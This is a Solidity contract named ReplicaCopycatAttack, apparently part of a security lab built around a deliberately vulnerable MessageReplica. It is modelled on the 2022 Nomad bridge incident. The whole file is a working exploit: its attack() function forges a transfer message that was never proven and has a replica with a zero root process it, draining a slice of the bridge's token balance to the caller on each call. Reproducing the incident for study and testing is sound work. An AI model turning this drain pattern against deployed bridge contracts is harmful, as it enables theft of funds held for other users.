// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {MessageReplica} from "../vulnerable/MessageReplica.sol";

/// @title ReplicaCopycatAttack — drains a zero-root MessageReplica (Nomad 2022 shape)
/// @notice `attack()` writes a fresh, never-proven transfer message paying
/// `slice` tokens (or what is left) to the caller and has the replica process
/// it. Anyone can call it — that is the point: as in the Nomad incident, many
/// senders copy the same transaction and each drains a slice. While the replica
/// is paused every call reverts.
contract ReplicaCopycatAttack {
    MessageReplica public immutable replica;
    IERC20 public immutable token;
    uint256 public immutable slice;
    uint256 public nonce;

    error NothingLeft();

    constructor(MessageReplica replica_, IERC20 token_, uint256 slice_) {
        replica = replica_;
        token = token_;
        slice = slice_;
    }

    function attack() external returns (uint256 amount) {
        uint256 left = token.balanceOf(address(replica));
        if (left == 0) revert NothingLeft();
        amount = left < slice ? left : slice;
        nonce += 1;
        replica.process(replica.encodeTransfer(nonce, address(token), msg.sender, amount));
    }
}
